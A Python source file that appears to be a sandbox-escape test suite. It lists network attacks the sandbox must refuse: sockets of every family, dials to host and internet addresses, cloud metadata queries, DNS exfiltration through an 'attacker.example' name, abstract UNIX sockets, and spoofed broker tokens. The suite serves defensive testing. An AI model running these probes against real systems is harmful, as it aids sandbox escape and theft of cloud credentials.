"""Any way out but the door. The suite listens on the host; nothing may ever arrive."""

# ruff: noqa: E501 - code for the sandbox, inside strings

from escape.attack import Attack

ATTACKS = [
    Attack(
        "every-address-family",
        "a socket of each family from 0 to 60 and each type (VSOCK, NETLINK, PACKET, ALG, XDP among them)",
        "refused for all but AF_UNIX",
        """
import socket
for family in range(61):
    if family == socket.AF_UNIX:
        continue
    for kind in (1, 2, 3, 5):
        result = libc.socket(family, kind, 0)
        if result >= 0:
            report(f"family {family} type {kind}", True)
            os.close(result)
    report(f"family {family}", False)
for family in range(2, 61):
    pair = (ctypes.c_int * 2)()
    if libc.socketpair(family, 1, 0, pair) == 0:
        report(f"socketpair {family}", True)
report("socketpairs", False)
""",
        tried=61,
    ),
    Attack(
        "tcp-and-udp",
        "connect and send to the host, its bridge, the internet, by v4 and v6",
        "no socket to do it with",
        """
import socket, struct
port = int(read_file("/work/port"))
def dial(host, family, kind):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect((host, port))
        one.send(b"escaped")
for host in ("127.0.0.1", "172.17.0.1", "10.0.0.1", "1.1.1.1"):
    attempt(f"tcp {host}", lambda: dial(host, socket.AF_INET, socket.SOCK_STREAM))
    attempt(f"udp {host}", lambda: dial(host, socket.AF_INET, socket.SOCK_DGRAM))
for host in ("::1", "fe80::1", "::ffff:127.0.0.1"):
    attempt(f"tcp {host}", lambda: dial(host, socket.AF_INET6, socket.SOCK_STREAM))
""",
        tried=11,
        input={"port": b"@PORT@"},
    ),
    Attack(
        "metadata-address",
        "ask the cloud's metadata service, by every library",
        "refused at once, in words",
        """
import urllib.request, http.client, requests, curl_cffi
url = "http://169.254.169.254/latest/meta-data/"
attempt("urllib", lambda: urllib.request.urlopen(url, timeout=3).read())
attempt("requests", lambda: requests.get(url, timeout=3).text)
attempt("curl_cffi", lambda: curl_cffi.get(url, timeout=3).text)
def bare():
    connection = http.client.HTTPConnection("metadata.google.internal", timeout=3)
    connection.request("GET", "/")
    return connection.getresponse().read()
attempt("http.client", bare)
""",
        tried=4,
    ),
    Attack(
        "libcurl-itself",
        "the patched libraries' C code, below the patches",
        "libcurl gets no socket",
        """
from curl_cffi import Curl, CurlOpt
port = int(read_file("/work/port"))
def fetch():
    curl = Curl()
    curl.setopt(CurlOpt.URL, f"http://127.0.0.1:{port}/".encode())
    curl.setopt(CurlOpt.TIMEOUT, 3)
    curl.perform()
attempt("libcurl", fetch)
""",
        input={"port": b"@PORT@"},
    ),
    Attack(
        "names",
        "resolve names: by libc, by hand over UDP, by a name that carries data out",
        "nothing resolves",
        """
import socket
for name in ("example.com", "secret-data.attacker.example", "host.docker.internal", "metadata.google.internal"):
    attempt(name, lambda: socket.gethostbyname(name))
libc.getaddrinfo.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p]
out = ctypes.c_void_p()
report("libc", libc.getaddrinfo(b"example.com", b"80", None, ctypes.byref(out)) == 0)
""",
        tried=5,
    ),
    Attack(
        "only-loopback",
        "look for interfaces and routes",
        "lo, and no route",
        """
names = os.listdir("/sys/class/net")
report("interfaces", set(names) - {"lo", "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0", "bonding_masters"} != set(), names)
routes = read_file("/proc/net/route").decode().splitlines()[1:]
report("routes", bool(routes), routes)
""",
        tried=2,
    ),
    Attack(
        "abstract-sockets",
        "reach a UNIX socket of the host by an abstract name, which no file system guards",
        "another network namespace: connection refused",
        """
import socket
name = read_file("/work/name").decode()
def dial():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\\0" + name)
        one.send(b"escaped")
attempt("abstract", dial)
names = read_file("/proc/net/unix", 1 << 20).decode()
report("list of sockets", name in names)
""",
        tried=2,
        input={"name": b"@NAME@"},
    ),
    Attack(
        "listen",
        "serve something that others could connect to",
        "refused",
        """
import socket
def serve():
    one = socket.socket(socket.AF_UNIX)
    one.bind("\\0quelea-evil")
    one.listen()
attempt("unix", serve)
attempt("tcp", lambda: __import__("http.server").server.HTTPServer(("0.0.0.0", 8000), None))
""",
        tried=2,
    ),
    Attack(
        "a-door-of-its-own",
        "set the door's variables by itself, without a right to it",
        "no socket is mounted; TCP has no socket",
        """
import requests
os.environ["QUELEA_MARKET_TOKEN"] = "guessed"
os.environ["QUELEA_MARKET_SOCKET"] = "/run/market/door.sock"
attempt("socket", lambda: requests.get("https://a.example/"))
os.environ.pop("QUELEA_MARKET_SOCKET")
os.environ["QUELEA_MARKET_URL"] = f"http://127.0.0.1:{read_file('/work/port').decode()}"
attempt("url", lambda: requests.get("https://a.example/"))
report("/run/market", bool(os.listdir("/run/market")))
""",
        tried=3,
        input={"port": b"@PORT@"},
    ),
]
